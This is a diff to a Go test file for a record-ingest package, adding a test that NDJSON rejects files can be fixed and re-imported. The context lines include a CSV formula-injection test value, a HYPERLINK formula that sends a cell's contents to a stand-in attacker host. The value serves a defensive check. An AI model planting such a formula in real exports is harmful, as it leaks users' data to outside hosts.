@@ -3,6 +3,7 @@ package ingest_test
 import (
 	"os"
 	"path/filepath"
+	"strconv"
 	"strings"
 	"testing"
 
@@ -106,5 +107,37 @@ func TestRejectsCSVIsSafeToOpenAndImportsBackUnchanged(t *testing.T) {
 	}
 	if got := string(e.Payload); !strings.Contains(got, `"concern":"=HYPERLINK(\"http://evil.example/?\"\u0026B2,\"details\")"`) && !strings.Contains(got, `"concern":"=HYPERLINK(\"http://evil.example/?\"&B2,\"details\")"`) {
 		t.Errorf("payload stored as %s", got)
+	}
+}
+
+// The NDJSON rejects file, once its events are fixed, imports as it is,
+// as the CSV one does: each line's input is what is imported.
+func TestRejectsNDJSONImportsBackOnceFixed(t *testing.T) {
+	h := newHub(t)
+	dir := t.TempDir()
+	path := filepath.Join(dir, "history.ndjson")
+	good := string(encode(t, event(t, "contact.received", "R-1")))
+	badNHS := strings.Replace(string(encode(t, event(t, "contact.received", "R-2"))), "9990000018", "9990000019", 1)
+	writeFile(t, path, lines(good, badNHS, "{not json at all"))
+	sum := importFile(t, h, path, ingest.ImportOptions{})
+	wantSummary(t, sum, ingest.Summary{Rows: 3, Accepted: 1, Rejected: 2, RejectsPath: ingest.RejectsPath(path)})
+
+	raw, err := os.ReadFile(ingest.RejectsPath(path))
+	if err != nil {
+		t.Fatal(err)
+	}
+	// The practitioner fixes the NHS number and the broken line in the
+	// rejects file and imports it.
+	fixed := strings.Replace(string(raw), "9990000019", "9990000018", 1)
+	fixed = strings.Replace(fixed, `"input_text":"{not json at all"`, `"input_text":`+strconv.Quote(string(encode(t, event(t, "contact.received", "R-3")))), 1)
+	again := filepath.Join(dir, "fixed.ndjson")
+	if err := os.WriteFile(again, []byte(fixed), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	sum = importFile(t, h, again, ingest.ImportOptions{})
+	wantSummary(t, sum, ingest.Summary{Rows: 2, Accepted: 2})
+	h.wantCount(t, 3)
+	if refs := h.sourceRefs(t); strings.Join(refs, ",") != "R-1,R-2,R-3" {
+		t.Fatalf("stored %v", refs)
 	}
 }
